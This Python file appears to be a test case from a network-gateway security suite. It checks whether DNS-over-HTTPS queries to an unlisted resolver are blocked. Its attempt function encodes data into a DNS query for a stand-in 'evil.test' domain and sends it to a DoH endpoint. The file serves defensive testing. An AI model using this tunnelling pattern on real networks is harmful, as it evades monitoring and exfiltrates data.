"""DNS over HTTPS to a resolver by its name.

The name of the resolver is the only thing that tells it from a web page; which names are
resolvers has no end, so a list of denied ones does not close it.

Not covered: a permitted host that also answers DNS questions under some path.
"""

ATTACK = {
    "title": "DNS over HTTPS to an unlisted resolver",
    "group": "dns",
    "layer": "gateway",
    "risk": "exfiltration",
    "references": ["RFC 8484 section 4.1", "R048", "ATT&CK T1572"],
    "zone": {"doh.test": {"a": ["93.184.216.66"]}},
    "arrives": [{"what": "request", "name": "doh.test"}, {"what": "question", "name": "doh.test"}],
    "stopped": [
        {"reason": ["not-listed"], "entry": ["transparent"], "where": {"name": "doh.test", "port": "443"}},
    ],
}


def attempt(kit):
    import base64

    import wire

    message = wire.dns_message(wire.question(f"{kit.word}.x.evil.test"))
    query = base64.urlsafe_b64encode(message).rstrip(b"=").decode()
    kit.talk("doh.test", 443, kit.get(f"/dns-query?dns={query}", "doh.test"), sni="doh.test")
